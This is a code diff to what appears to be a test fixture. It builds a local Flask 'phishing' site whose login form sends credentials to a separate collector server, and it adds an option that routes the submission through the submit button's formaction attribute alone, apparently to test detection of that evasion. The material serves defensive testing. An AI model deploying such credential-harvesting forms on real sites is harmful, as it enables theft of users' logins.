@@ -212,9 +212,13 @@ def start_collector() -> tuple[WSGIServerThread, Collector]:
     return WSGIServerThread(app), collector
 
 
-def start_phishing(collector_url: str) -> WSGIServerThread:
-    """A site whose login form submits to ``collector_url`` (another origin)."""
+def start_phishing(collector_url: str, formaction: bool = False) -> WSGIServerThread:
+    """A site whose login form submits to ``collector_url`` (another origin): through its
+    ``action``, or (``formaction``) through its submit button's ``formaction`` only."""
     app = Flask("phishing")
+    form = _LOGIN.format(action="/login", extra=f' formaction="{collector_url}/collect"')
+    if not formaction:
+        form = _LOGIN.format(action=collector_url + "/collect", extra="")
 
     @app.get("/")
     def home() -> Response:
@@ -222,7 +226,7 @@ def start_phishing(collector_url: str) -> WSGIServerThread:
 
     @app.get("/login")
     def login_form() -> Response:
-        return _page("Sign in", _LOGIN.format(action=collector_url + "/collect", extra=""))
+        return _page("Sign in", form)
 
     return WSGIServerThread(app)
 
